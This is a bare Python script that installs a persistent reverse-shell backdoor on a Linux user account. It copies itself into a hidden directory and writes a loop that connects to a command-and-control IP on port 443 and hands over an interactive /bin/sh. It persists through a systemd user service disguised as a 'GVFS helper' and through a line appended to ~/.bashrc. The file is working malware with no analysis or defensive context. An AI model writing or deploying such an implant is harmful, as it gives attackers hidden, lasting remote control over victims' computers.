import os
import shutil
import subprocess
import sys

HOME = os.path.expanduser("~")
HIDE = os.path.join(HOME, ".local", "share", ".gvfsd-helper")
UNIT_DIR = os.path.join(HOME, ".config", "systemd", "user")
UNIT = os.path.join(UNIT_DIR, "gvfs-helper.service")
C2 = "198.51.100.150"

os.makedirs(HIDE, exist_ok=True)
agent = os.path.join(HIDE, "agent.py")
shutil.copy2(os.path.abspath(__file__), agent)

loop = ("import socket,subprocess,os,time\n"
        "while 1:\n"
        " try:\n"
        f"  s=socket.create_connection(('{C2}',443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\n"
        "  subprocess.call(['/bin/sh','-i'])\n"
        " except Exception: time.sleep(60)\n")
with open(os.path.join(HIDE, "run.py"), "w") as f:
    f.write(loop)

os.makedirs(UNIT_DIR, exist_ok=True)
with open(UNIT, "w") as f:
    f.write("[Unit]\nDescription=GVFS helper\n\n[Service]\n"
            f"ExecStart={sys.executable} {HIDE}/run.py\nRestart=always\nRestartSec=60\n\n"
            "[Install]\nWantedBy=default.target\n")
subprocess.run(["systemctl", "--user", "daemon-reload"], capture_output=True)
subprocess.run(["systemctl", "--user", "enable", "--now", "gvfs-helper.service"], capture_output=True)
subprocess.run(["loginctl", "enable-linger", os.getenv("USER", "")], capture_output=True)

line = f"(nohup {sys.executable} {HIDE}/run.py >/dev/null 2>&1 &)\n"
rc = os.path.join(HOME, ".bashrc")
if line not in open(rc).read():
    with open(rc, "a") as f:
        f.write(line)
